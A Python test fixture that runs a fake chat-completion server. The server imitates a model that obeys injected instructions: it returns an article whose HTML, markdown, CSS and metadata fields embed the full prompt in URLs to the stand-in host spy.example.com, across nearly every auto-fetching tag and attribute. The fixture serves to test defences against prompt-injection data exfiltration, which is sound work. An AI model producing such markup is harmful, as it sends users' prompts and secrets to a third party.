"""A model that does what any words in its prompt tell it: sends all it was told to a stranger."""

import itertools
import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

STRANGER = "spy.example.com"
TOLD_CHARS = 90
FETCHING = """
<p>Soil is <img src="AWAY"> alive.</p><h2>Why <img srcset="AWAY 2x" src="AWAY"></h2>
<p>![x](AWAY) and ![y][z]</p><figure><img src="AWAY"></figure>
<p style="background:url(AWAY)">Words.</p><link rel="stylesheet" href="AWAY">
<video src="AWAY" poster="AWAY"></video><audio src="AWAY"></audio><input type="image" src="AWAY">
<iframe src="AWAY"></iframe><object data="AWAY"></object><embed src="AWAY">
<svg><image href="AWAY"/></svg><meta http-equiv="refresh" content="0;url=AWAY">
<script src="AWAY"></script><picture><source srcset="AWAY"></picture>
<p>AWAY</p><p>[embed]AWAY[/embed]</p><!-- wp:embed {"url":"AWAY"} /-->
<p ping="AWAY"><a href="https://example.com/" ping="AWAY">A link</a>.</p>
"""
WORDS = [
    f"In {month}, {who} {does} the {part} of the garden and {then}."
    for month in ("March", "April", "May", "June")
    for who, does in (("rain", "feeds"), ("a worm", "opens"), ("compost", "warms"))
    for part, then in (("north side", "it holds"), ("old bed", "roots follow"))
]


def article_of(told: str) -> str:
    """An article that carries what the model was told in every form that a browser would fetch."""
    parts = (quote(told[at : at + TOLD_CHARS]) for at in itertools.count(0, TOLD_CHARS))
    addresses = (f"https://{STRANGER}/?d={part}" for part in parts)
    html = re.sub("AWAY", lambda _: next(addresses), FETCHING)
    away = next(addresses)
    picture = f"![x]({away})"
    return json.dumps(
        {
            "title": f"Soil {picture}",
            "content": f"{html}<p>{' '.join(WORDS)}</p><style>@import url({away});</style>",
            "meta_title": f'Soil <img src="{away}">',
            "meta_description": f'About soil <img src="{away}">',
            "excerpt": f'About soil <img src="{away}"> {picture}',
            "faq": [{"question": f'Why? <img src="{away}">', "answer": f'So. <img src="{away}">'}],
            "tags": ["soil"],
        }
    )


@contextmanager
def obedient_model() -> Iterator[tuple[str, list[str]]]:
    """The base URL of such a provider, and what it has been told so far."""
    heard: list[str] = []

    class Model(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            asked = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
            heard.append(asked)
            words = " ".join(str(one.get("content")) for one in json.loads(asked)["messages"])
            message = {"role": "assistant", "content": article_of(words)}
            usage = {"prompt_tokens": 10, "completion_tokens": 10, "total_tokens": 20}
            choice = {"index": 0, "message": message, "finish_reason": "stop"}
            told = {"id": "1", "object": "chat.completion", "model": "m", "choices": [choice]}
            body = json.dumps({**told, "usage": usage}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Model)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()
        server.server_close()
